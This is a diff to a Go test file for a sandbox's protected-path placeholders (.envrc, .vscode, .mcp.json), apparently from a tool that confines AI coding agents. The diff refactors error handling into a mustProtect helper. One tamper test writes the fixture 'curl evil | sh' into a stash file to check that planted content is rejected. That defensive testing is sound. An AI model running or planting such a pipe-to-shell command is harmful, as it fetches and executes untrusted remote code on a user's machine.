@@ -4,6 +4,7 @@ package landlock
 
 import (
 	"bytes"
+	"io"
 	"os"
 	"path/filepath"
 	"reflect"
@@ -58,10 +59,7 @@ func TestPlaceholders(t *testing.T) {
 			{Path: w + "/.envrc"}, {Path: w + "/.git/commondir", Optional: true},
 		}}
 	var warn bytes.Buffer
-	rel1, err := ensureProtected(s, &warn)
-	if err != nil {
-		t.Fatal(err)
-	}
+	rel1 := mustProtect(t, s, &warn)
 	if b, err := os.ReadFile(w + "/.claude/settings.json"); err != nil || string(b) != "{}\n" {
 		t.Errorf(".claude/settings.json placeholder = %q, %v", b, err)
 	}
@@ -73,11 +71,8 @@ func TestPlaceholders(t *testing.T) {
 	if _, err := os.Lstat(w + "/.git"); err == nil {
 		t.Errorf("an optional path was created")
 	}
-	rel2, err := ensureProtected(s, &warn) // a second, concurrent run
-	if err != nil {
-		t.Fatal(err)
-	}
-	rel1() // not alone: leaves them
+	rel2 := mustProtect(t, s, &warn) // a second, concurrent run
+	rel1()                           // not alone: leaves them
 	if _, err := os.Lstat(w + "/.envrc"); err != nil {
 		t.Fatalf("a run removed placeholders while another run in the workdir was going: %v", err)
 	}
@@ -92,10 +87,7 @@ func TestPlaceholders(t *testing.T) {
 	}
 
 	// A placeholder the user filled during the run is kept (and said so).
-	rel, err := ensureProtected(s, &warn)
-	if err != nil {
-		t.Fatal(err)
-	}
+	rel := mustProtect(t, s, &warn)
 	if err := os.WriteFile(w+"/.envrc", []byte("export X=1\n"), 0o644); err != nil {
 		t.Fatal(err)
 	}
@@ -119,6 +111,16 @@ func TestPlaceholders(t *testing.T) {
 
 // The scan after a run names a planted repository's hook and config, and a
 // tool file in a subdirectory, but not git's samples or what predates the run.
+// mustProtect is ensureProtected, failing the test on an error.
+func mustProtect(t *testing.T, s spec.Spec, warn io.Writer) (release func()) {
+	t.Helper()
+	rel, err := ensureProtected(s, warn)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return rel
+}
+
 func TestWarnPlantedGit(t *testing.T) {
 	root, _ := filepath.EvalSymlinks(t.TempDir())
 	old := filepath.Join(root, "vendor", "lib", ".git")
@@ -165,10 +167,7 @@ func TestPlaceholdersExcluded(t *testing.T) {
 	os.WriteFile(ex, []byte("# user's own\n*.log\n"), 0o644)
 	s := spec.Spec{Workdir: w, Allow: []string{w}, StateDir: filepath.Join(root, "state", "agents", "x"),
 		Protected: []protect.Path{{Path: w + "/.envrc"}, {Path: w + "/.mcp.json"}, {Path: w + "/.vscode", Dir: true}}}
-	rel, err := ensureProtected(s, &bytes.Buffer{})
-	if err != nil {
-		t.Fatal(err)
-	}
+	rel := mustProtect(t, s, &bytes.Buffer{})
 	during, _ := os.ReadFile(ex)
 	for _, want := range []string{"*.log\n", excludeMarker + "\n/.envrc\n", excludeMarker + "\n/.mcp.json\n"} {
 		if !strings.Contains(string(during), want) {
@@ -213,10 +212,7 @@ func TestPlaceholderStash(t *testing.T) {
 	names := []string{"/.vscode", "/.mcp.json", "/.envrc"}
 	run := func(wd string) map[string]uint64 {
 		t.Helper()
-		rel, err := ensureProtected(specFor(wd), &bytes.Buffer{})
-		if err != nil {
-			t.Fatal(err)
-		}
+		rel := mustProtect(t, specFor(wd), &bytes.Buffer{})
 		got := map[string]uint64{}
 		for _, n := range names {
 			if got[n] = inode(t, wd+n); got[n] == 0 {
@@ -277,24 +273,14 @@ func TestPlaceholderSharedPath(t *testing.T) {
 		}
 	}
 	var warn bytes.Buffer
-	rel1, err := ensureProtected(specFor(w1), &warn)
-	if err != nil {
-		t.Fatal(err)
-	}
+	rel1 := mustProtect(t, specFor(w1), &warn)
 	present("the first run", true)
-	rel2, err := ensureProtected(specFor(w2), &warn)
-	if err != nil {
-		t.Fatal(err)
-	}
+	rel2 := mustProtect(t, specFor(w2), &warn)
 	rel1()
 	present("the first run ended, the second still going", true)
 	rel2()
 	present("the second run ended (it made no placeholder)", true)
-	rel3, err := ensureProtected(specFor(w1), &warn)
-	if err != nil {
-		t.Fatal(err)
-	}
-	rel3()
+	mustProtect(t, specFor(w1), &warn)()
 	present("a later run in the first workdir ended alone", false)
 	if warn.Len() > 0 {
 		t.Errorf("warnings: %s", warn.String())
@@ -309,10 +295,7 @@ func TestPlaceholderStashTampered(t *testing.T) {
 	}
 	s := spec.Spec{Workdir: w, Allow: []string{w}, StateDir: filepath.Join(root, "state", "agents", "x"),
 		Protected: []protect.Path{{Path: w + "/.vscode", Dir: true}, {Path: w + "/.envrc"}}}
-	rel, err := ensureProtected(s, &bytes.Buffer{})
-	if err != nil {
-		t.Fatal(err)
-	}
+	rel := mustProtect(t, s, &bytes.Buffer{})
 	rel()
 	stashDir := filepath.Join(root, "state", "protect", "stash")
 	dirSlot := filepath.Join(stashDir, slot(w+"/.vscode", true, ""))
@@ -326,10 +309,7 @@ func TestPlaceholderStashTampered(t *testing.T) {
 	if err := os.WriteFile(fileSlot, []byte("curl evil | sh\n"), 0o644); err != nil {
 		t.Fatal(err)
 	}
-	rel, err = ensureProtected(s, &bytes.Buffer{})
-	if err != nil {
-		t.Fatal(err)
-	}
+	rel = mustProtect(t, s, &bytes.Buffer{})
 	if _, err := os.Lstat(w + "/.vscode/tasks.json"); err == nil {
 		t.Errorf("a written stash directory was moved into the project")
 	}
@@ -346,10 +326,7 @@ func TestPlaceholderStashTampered(t *testing.T) {
 		t.Fatal(err)
 	}
 	var warn bytes.Buffer
-	rel2, err := ensureProtected(s, &warn)
-	if err != nil {
-		t.Fatal(err)
-	}
+	rel2 := mustProtect(t, s, &warn)
 	rel2()
 	rel()
 	if _, err := os.Lstat(w + "/.vscode/settings.json"); err != nil {
@@ -370,20 +347,14 @@ func TestPlaceholderStashXattr(t *testing.T) {
 	}
 	s := spec.Spec{Workdir: w, Allow: []string{w}, StateDir: filepath.Join(root, "state", "agents", "x"),
 		Protected: []protect.Path{{Path: w + "/.vscode", Dir: true}}}
-	rel, err := ensureProtected(s, &bytes.Buffer{})
-	if err != nil {
-		t.Fatal(err)
-	}
+	rel := mustProtect(t, s, &bytes.Buffer{})
 	first := inode(t, w+"/.vscode")
 	rel()
 	dirSlot := filepath.Join(root, "state", "protect", "stash", slot(w+"/.vscode", true, ""))
 	if err := unix.Setxattr(dirSlot, "user.planted", []byte("x"), 0); err != nil {
 		t.Skipf("needs user extended attributes on %s: %v", root, err)
 	}
-	rel, err = ensureProtected(s, &bytes.Buffer{})
-	if err != nil {
-		t.Fatal(err)
-	}
+	rel = mustProtect(t, s, &bytes.Buffer{})
 	defer rel()
 	if inode(t, w+"/.vscode") == first {
 		t.Errorf("a stashed placeholder with a user.* attribute was moved into the project")
